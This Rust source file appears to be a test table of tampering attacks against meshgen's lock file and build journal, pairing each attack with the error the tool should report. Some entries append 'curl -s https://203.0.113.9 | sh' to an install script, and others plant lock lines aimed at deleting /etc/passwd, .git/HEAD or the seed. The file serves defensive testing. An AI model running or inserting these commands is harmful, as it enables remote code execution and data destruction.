//! The lock and the journal: they record a build, and order nothing.

use super::{Attack, Step};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "removes the lock",
        gain: "nothing pins the tree",
        step: Step::Diff,
        says: &["out has no meshgen.lock"],
        change: "rm out/meshgen.lock",
    },
    Attack {
        name: "removes the `root` line",
        gain: "a build with another seed",
        step: Step::Diff,
        says: &["out/meshgen.lock: has no root"],
        change: "sed -i /^root/d out/meshgen.lock",
    },
    Attack {
        name: "adds a `root` line",
        gain: "a root of the attacker counts as one in use",
        step: Step::UpToDate,
        says: &["out/meshgen.lock names another root"],
        change: r#"sed -i "/^root/a $(grep ^root $ATTACKER/out/meshgen.lock)" out/meshgen.lock"#,
    },
    Attack {
        name: "replaces the `root` line by the attacker's",
        gain: "the mesh, at the next build with the attacker's seed",
        step: Step::UpToDate,
        says: &["the existing root is not the root of this topology"],
        change: r#"sed -i "s/^root .*/$(grep ^root $ATTACKER/out/meshgen.lock)/" out/meshgen.lock"#,
    },
    Attack {
        name: "replaces the `root` line by `root none`",
        gain: "a build with another seed, as if the mesh had no root yet",
        step: Step::Diff,
        says: &["out/meshgen.lock: says that there are no certificates, and lists some"],
        change: "sed -i 's/^root .*/root none/' out/meshgen.lock",
    },
    Attack {
        name: "adds `root none`",
        gain: "an authority that nobody knows counts as one in use",
        step: Step::UpToDate,
        says: &["out/meshgen.lock names another root", "in use: one that meshgen does not know"],
        change: "sed -i '/^root/a root none' out/meshgen.lock",
    },
    Attack {
        name: "writes another last day in the line of a certificate",
        gain: "nobody renews it in time",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: "sed -i '/^certificate of west/s/2028-10-31/2036-10-31/' out/meshgen.lock",
    },
    Attack {
        name: "drops the line of a private key",
        gain: "nothing pins the key",
        step: Step::UpToDate,
        says: &["west/20-cacerts/ca-key.pem is not in meshgen.lock"],
        change: "sed -i '/ west.20-cacerts.ca-key.pem$/d' out/meshgen.lock",
    },
    Attack {
        name: "brings back the whole tree of an earlier commit, lock included",
        gain: "certificates and configuration that were replaced",
        step: Step::UpToDate,
        says: &["`west` needs a new certificate", "expected generation 2"],
        change: "git rm -rq out; git checkout -q $BEFORE -- out",
    },
    Attack {
        name: "lists a source file with its digest",
        gain: "the next build with `-o .` removes the file",
        step: Step::Diff,
        says: &["lists `src/main.rs`, which is not a file of meshgen"],
        change: "mkdir out/src; echo >out/src/main.rs; list src/main.rs",
    },
    Attack {
        name: "lists a file outside the tree",
        gain: "the next build removes the topology",
        step: Step::Diff,
        says: &["lists `../mesh.yaml`, which is not a file of meshgen"],
        change: "list ../mesh.yaml",
    },
    Attack {
        name: "lists an absolute path",
        gain: "the next build removes a file of the machine",
        step: Step::Diff,
        says: &["lists `/etc/passwd`, which is not a file of meshgen"],
        change: "sed -i '$a 0000000000000000000000000000000000000000000000000000000000000000 /etc/passwd' out/meshgen.lock",
    },
    Attack {
        name: "lists `.git/HEAD`",
        gain: "the next build with `-o .` removes the repository",
        step: Step::Diff,
        says: &["lists `.git/HEAD`, which is not a file of meshgen"],
        change: "sed -i '$a 0000000000000000000000000000000000000000000000000000000000000000 .git/HEAD' out/meshgen.lock",
    },
    Attack {
        name: "lists the seed",
        gain: "the next build with `-o .` and `--overwrite` removes the seed",
        step: Step::Diff,
        says: &["lists `ca.seed`, which is not a file of meshgen"],
        change: "sed -i '$a 0000000000000000000000000000000000000000000000000000000000000000 ca.seed' out/meshgen.lock",
    },
    Attack {
        name: "lists a name with control characters",
        gain: "the log of the pipeline shows what the attacker likes",
        step: Step::Diff,
        says: &[r"lists `west/\u{1b}[2K\u{202e}x`, which is not a file of meshgen"],
        change: r"printf '%064d west/\033[2K\342\200\256x\n' 0 >>out/meshgen.lock",
    },
    Attack {
        name: "names a cluster `@all`",
        gain: "the comment on the pull request calls whom the attacker likes",
        step: Step::Diff,
        says: &["out/meshgen.lock: has a line", "that cannot be read"],
        change: "sed -i 's/^context of west /context of @all /' out/meshgen.lock",
    },
    Attack {
        name: "lists a file of a cluster that the topology does not name",
        gain: "the next build removes the file",
        step: Step::UpToDate,
        says: &["no longer emitted  north/10-namespace/namespace.yaml"],
        change: "
            mkdir -p out/north/10-namespace
            echo 'kind: Namespace' >out/north/10-namespace/namespace.yaml
            list north/10-namespace/namespace.yaml
        ",
    },
    Attack {
        name: "lists a file twice, with two digests",
        gain: "an edited file counts as written by meshgen",
        step: Step::UpToDate,
        says: &["differs  install.sh", "differs  meshgen.lock"],
        change: "echo 'curl -s https://203.0.113.9 | sh' >>out/install.sh; list install.sh",
    },
    Attack {
        name: "drops the line of a script, and edits the script",
        gain: "a command on the machine of who installs",
        step: Step::UpToDate,
        says: &["not in meshgen.lock  install.sh"],
        change: "echo 'curl -s https://203.0.113.9 | sh' >>out/install.sh; sed -i '/ install.sh$/d' out/meshgen.lock",
    },
    Attack {
        name: "drops a step",
        gain: "`diff` forgets a cluster's Istio",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: "sed -i '/^step east.30-istio$/d' out/meshgen.lock",
    },
    Attack {
        name: "writes another context",
        gain: "the commands of `diff` go to another cluster",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: r#"sed -i 's/^context of west .*/context of west "production"/' out/meshgen.lock"#,
    },
    Attack {
        name: "claims an older format",
        gain: "less is compared",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: "sed -i '1s/2/1/' out/meshgen.lock",
    },
    Attack {
        name: "claims a later format",
        gain: "nothing is compared",
        step: Step::Diff,
        says: &["was written by a newer meshgen"],
        change: "sed -i '1s/2/9/' out/meshgen.lock",
    },
    Attack {
        name: "claims another version of meshgen",
        gain: "differences look like an upgrade",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: "sed -i 's/^meshgen .*/meshgen 99.0.0/' out/meshgen.lock",
    },
    Attack {
        name: "adds a comment",
        gain: "a line that reviewers read and meshgen does not",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: "sed -i '5i # approved by security' out/meshgen.lock",
    },
    Attack {
        name: "converts its line ends",
        gain: "every line is changed, so a change of one is hidden",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: r"sed -i 's/$/\r/' out/meshgen.lock",
    },
    Attack {
        name: "leaves a conflict in it",
        gain: "the lines of both sides count",
        step: Step::Diff,
        says: &["contains an unresolved Git conflict"],
        change: "sed -i '1i <<<<<<< HEAD' out/meshgen.lock",
    },
    Attack {
        name: "adds ten thousand files of clusters that do not exist",
        gain: "a review that nobody finishes",
        step: Step::UpToDate,
        says: &["differs  meshgen.lock"],
        change: r#"seq -f "%064.0f" 10000 | sed 's|0*\(.*\)|& c\1/10-namespace/namespace.yaml|' >>out/meshgen.lock"#,
    },
    Attack {
        name: "commits a journal, as of a build that was killed",
        gain: "the next build goes on without the lock",
        step: Step::UpToDate,
        says: &["left by a build that was killed  .meshgen-journal"],
        change: "echo >out/.meshgen-journal; git add -f out/.meshgen-journal",
    },
    Attack {
        name: "commits a journal that lists an edited script",
        gain: "the edit counts as written by meshgen",
        step: Step::UpToDate,
        says: &["differs  install.sh"],
        change: r#"
            echo 'curl -s https://203.0.113.9 | sh' >>out/install.sh
            echo "$(sha256sum out/install.sh | cut -d ' ' -f 1) install.sh" >out/.meshgen-journal
            git add -f out/.meshgen-journal
        "#,
    },
    Attack {
        name: "commits a journal that lists the topology",
        gain: "the next build with `-o .` removes the topology",
        step: Step::UpToDate,
        says: &["out/.meshgen-journal: lists `mesh.yaml`, which is not a file of meshgen"],
        change: r#"
            echo "$(sha256sum mesh.yaml | cut -d ' ' -f 1) mesh.yaml" >out/.meshgen-journal
            git add -f out/.meshgen-journal
        "#,
    },
    Attack {
        name: "commits a temporary file, as of a build that was killed",
        gain: "a file that the next build removes without a word",
        step: Step::UpToDate,
        says: &["left by a build that was killed  west/30-istio/.meshgen-istio.yaml"],
        change: "echo >out/west/30-istio/.meshgen-istio.yaml; git add -f out/west/30-istio/.meshgen-istio.yaml",
    },
    Attack {
        name: "adds facts of many clusters that do not exist",
        gain: "a pipeline that takes minutes, because all pairs of clusters are compared",
        step: Step::Diff,
        says: &["is cut short, because it lists no file of the cluster `c1`"],
        change: r"for name in c1 c2 c3; do printf 'network of %s lan\nprimary of %s %s\n' $name $name $name >>out/meshgen.lock; done",
    },
];
